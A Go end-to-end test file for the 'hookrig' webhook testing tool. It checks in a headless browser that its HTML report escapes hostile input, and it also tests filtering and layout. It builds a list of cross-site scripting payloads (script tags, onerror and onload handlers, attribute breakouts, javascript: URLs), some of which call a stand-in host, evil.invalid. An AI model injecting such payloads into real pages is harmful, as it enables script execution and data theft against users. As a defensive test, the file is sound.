//go:build e2e

package e2e_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/hookrig/hookrig/contract/report"
)

// hostileTexts are what somebody hostile could put into a catalog or a reply, with more that only a
// browser would act on.
func hostileTexts(t *testing.T) []string {
	t.Helper()
	text, err := os.ReadFile("../contract/report/testdata/hostile.json")
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	if err := json.Unmarshal(text, &list); err != nil {
		t.Fatal(err)
	}
	for _, call := range []string{"alert(1)", "fetch('http://evil.invalid/')"} {
		list = append(list, "<script>"+call+"</script>", "<img src=x onerror="+call+">", "<svg><script>"+call+"</script></svg>",
			"<svg/onload="+call+">", "<body onload="+call+">", "<input autofocus onfocus="+call+">", "<iframe srcdoc=\"<script>"+call+"</script>\">",
			"\" autofocus onfocus="+call+" x=\"", "javascript:"+call, "https://x/\" onmouseover="+call+" y=\"", "</details></main><script>"+call+"</script>")
	}
	if len(list) < 60 {
		t.Fatalf("%d texts, want at least 60", len(list))
	}
	return list
}

// hostileReport has each text in each place that a consumer, a catalog or a flag can fill.
func hostileReport(texts []string) *report.Report {
	r := &report.Report{Tool: report.Tool{Name: "hookrig", Version: "1"}, StartedAt: time.Date(2026, 1, 5, 8, 0, 0, 0, time.UTC), Coverage: report.Coverage{Events: report.Ratio{Covered: 1, Total: 2}}}
	for _, text := range texts {
		lines := [][2]string{{text, text}}
		r.Notes = append(r.Notes, text)
		r.Coverage.Uncovered = append(r.Coverage.Uncovered, report.Uncovered{Kind: text, What: text, Why: text})
		r.Provider, r.Target, r.RunID, r.CatalogDigest, r.Reason = r.Provider+text, r.Target+text, r.RunID+text, r.CatalogDigest+text, r.Reason+text
		r.Results = append(r.Results,
			report.Result{Check: text, Event: text, Level: text, Verdict: report.VerdictFail, Finding: &report.Finding{
				Where: text, Rule: text, Basis: text, Source: text, Got: text, Want: text, Why: text, Fix: text, Observed: text, Log: []string{text},
				Curl: text, Replay: text, Shrunk: text, Exchange: &report.Exchange{
					Request:  report.Request{Method: text, Path: text, Headers: lines, Body: text},
					Response: report.Response{Status: 500, Reason: text, Headers: lines, Body: text, Failure: text},
				}}},
			report.Result{Check: text, Event: text, Verdict: report.VerdictNotAssessed, Reason: text},
			report.Result{Check: text, Event: text, Verdict: report.VerdictFlaky, Reason: text, Waived: &report.Waived{Reason: text, Until: text}})
	}
	r.Finish()
	r.Decide()
	return r
}

func writeReport(t *testing.T, r *report.Report) string {
	t.Helper()
	file, err := os.Create(filepath.Join(t.TempDir(), "report.html"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	if err := report.WriteHTML(file, r); err != nil {
		t.Fatal(err)
	}
	return "file://" + filepath.ToSlash(file.Name())
}

// No text of anybody's runs in the HTML report, even when every part of it is opened, focused and
// hovered, and the page asks for nothing.
func TestReportHTMLRunsNothing(t *testing.T) {
	texts := hostileTexts(t)
	b := openBrowser(t)
	b.do(t, chromedp.Navigate(writeReport(t, hostileReport(texts))))
	opened := evaluate[int](t, b, `(() => {
		const all = [...document.querySelectorAll("details")];
		all.forEach((each) => { each.open = true; each.dispatchEvent(new Event("toggle")); });
		return all.length;
	})()`)
	if opened < len(texts) {
		t.Errorf("%d parts to open, want one for each of %d findings", opened, len(texts))
	}
	evaluate[int](t, b, `(() => {
		const all = [...document.querySelectorAll("body *")];
		for (const each of all) for (const name of ["mouseover", "focus", "error", "load", "click"]) {
			if (each.tagName !== "A") each.dispatchEvent(new Event(name));
		}
		return all.length;
	})()`)
	evaluate[bool](t, b, `new Promise((done) => setTimeout(() => done(true), 300))`)
	if scripts := evaluate[int](t, b, `document.scripts.length`); scripts != 1 {
		t.Errorf("%d scripts in the page, want our own", scripts)
	}
	if handlers := evaluate[int](t, b, `[...document.querySelectorAll("*")].filter((each) => [...each.attributes].some((a) => a.name.startsWith("on"))).length`); handlers != 0 {
		t.Errorf("%d elements have event handlers", handlers)
	}
	if links := evaluate[int](t, b, `[...document.querySelectorAll("a")].filter((each) => each.protocol !== "https:").length`); links != 0 {
		t.Errorf("%d links are not https", links)
	}
	b.quiet(t)
}

// The filter of the report shows what it is asked for.
func TestReportHTMLFilters(t *testing.T) {
	r := &report.Report{Tool: report.Tool{Name: "hookrig", Version: "1"}, Provider: "acme"}
	for _, check := range []string{"ack-hang", "ack-too-slow", "sig-missing-accepted"} {
		r.Results = append(r.Results,
			report.Result{Check: check, Event: "order.paid", Level: "must", Verdict: report.VerdictPass},
			report.Result{Check: check, Event: "order.created", Level: "must", Verdict: report.VerdictFail, Finding: &report.Finding{Got: "200", Want: "401", Rule: "r", Basis: "security"}})
	}
	r.Finish()
	r.Decide()
	b := openBrowser(t)
	b.do(t, chromedp.Navigate(writeReport(t, r)))
	shown := func() int {
		return evaluate[int](t, b, `[...document.querySelectorAll("#results tbody tr")].filter((row) => row.offsetParent !== null).length`)
	}
	if n := shown(); n != 6 {
		t.Errorf("%d rows at first, want 6", n)
	}
	set := func(id, value string) {
		evaluate[bool](t, b, `(() => { const e = document.getElementById("`+id+`"); e.value = "`+value+`"; e.dispatchEvent(new Event("input")); return true; })()`)
	}
	set("verdict", "fail")
	if n := shown(); n != 3 {
		t.Errorf("%d failures, want 3", n)
	}
	set("search", "ACK paid")
	if n := shown(); n != 0 {
		t.Errorf("%d failures of ack on paid, want 0", n)
	}
	set("verdict", "")
	if n := shown(); n != 2 {
		t.Errorf("%d results of ack on paid, want 2", n)
	}
	b.quiet(t)
}

// The page is as wide as the window, on a phone and on a desk, whatever the report says.
func TestReportHTMLDoesNotScrollSideways(t *testing.T) {
	long := &report.Report{Tool: report.Tool{Name: "hookrig", Version: "1"}, Provider: "acme", Target: "http://127.0.0.1:4000/" + strings.Repeat("webhooks", 40),
		CatalogDigest: "sha256:" + strings.Repeat("0f", 32), Comparison: &report.Comparison{New: []report.Key{{Check: strings.Repeat("check", 60), Event: "e"}}}}
	for i := range 8 {
		f := &report.Finding{Where: "/data/" + strings.Repeat("field", 60), Got: strings.Repeat("x", 400), Want: "401 or 403", Rule: "r", Basis: "documented",
			Source: "https://example.com/" + strings.Repeat("path/", 60), Curl: "curl " + strings.Repeat("-H 'a: b' ", 60), Replay: "hookrig replay hr1_" + strings.Repeat("A", 1900),
			Exchange: &report.Exchange{Request: report.Request{Method: "POST", Path: "/w", Headers: [][2]string{{"X-Long", strings.Repeat("y", 500)}}, Body: "{}"}}}
		r := report.Result{Check: fmt.Sprintf("batch-%d-first-only", i), Event: "conversation.participant.permissions.updated", Level: "advisory", Verdict: report.VerdictFail, Cases: 12, Finding: f}
		if i%2 == 0 {
			r.Verdict, r.Finding, r.Reason = report.VerdictNotAssessed, nil, "make the cases: the description of this event leaves nothing to probe, as far as it says what it is about"+strings.Repeat("z", 100)
		}
		long.Results = append(long.Results, r)
		long.Coverage.Uncovered = append(long.Coverage.Uncovered, report.Uncovered{Kind: "schema_point", What: strings.Repeat("/data/a", 50), Why: "no message with it was acknowledged"})
	}
	long.Finish()
	long.Decide()
	b := openBrowser(t)
	for name, r := range map[string]*report.Report{"long words": long, "hostile texts": hostileReport(hostileTexts(t))} {
		b.do(t, chromedp.Navigate(writeReport(t, r)))
		for _, width := range []int64{320, 375, 768, 1280} {
			b.do(t, chromedp.EmulateViewport(width, 900))
			over := evaluate[string](t, b, `(() => {
				document.querySelectorAll("details").forEach((each) => { each.open = true; });
				const width = document.documentElement.clientWidth;
				if (document.documentElement.scrollWidth <= width) return "";
				const wide = [...document.querySelectorAll("body *")].filter((each) => each.getBoundingClientRect().right > width + 1);
				return document.documentElement.scrollWidth + " px of " + width + ": " + wide.slice(0, 3).map((each) => each.outerHTML.slice(0, 120)).join(" ");
			})()`)
			if over != "" {
				t.Errorf("%s in a window of %d px: %s", name, width, over)
			}
		}
	}
}
